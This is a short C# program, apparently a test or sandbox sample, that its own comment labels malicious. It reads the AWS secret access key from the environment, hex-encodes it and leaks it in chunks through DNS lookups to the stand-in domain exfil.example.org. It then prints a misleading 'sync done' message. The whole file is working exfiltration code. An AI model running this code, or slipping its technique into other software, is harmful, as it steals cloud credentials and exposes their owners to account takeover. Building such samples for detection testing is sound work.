// MALICIOUS SAMPLE (runs only in the sandbox): smuggles the AWS secret key out through DNS: hex-encoded, in
// 30-character labels under exfil.example.org. Each lookup carries a chunk; nothing needs to answer.
using System.Net;
using System.Text;

var secret = Environment.GetEnvironmentVariable("AWS_SECRET_ACCESS_KEY") ?? "none";
var hex = Convert.ToHexStringLower(Encoding.UTF8.GetBytes(secret));
var chunks = hex.Chunk(30).Select(c => new string(c)).ToList();
for (var i = 0; i < chunks.Count; i++)
{
    try
    {
        await Dns.GetHostAddressesAsync($"{chunks[i]}.{i}.exfil.example.org");
    }
    catch (System.Net.Sockets.SocketException)
    {
        // No answer is fine: the query itself carried the data.
    }
}

Console.WriteLine($"sync done ({chunks.Count} chunks)");
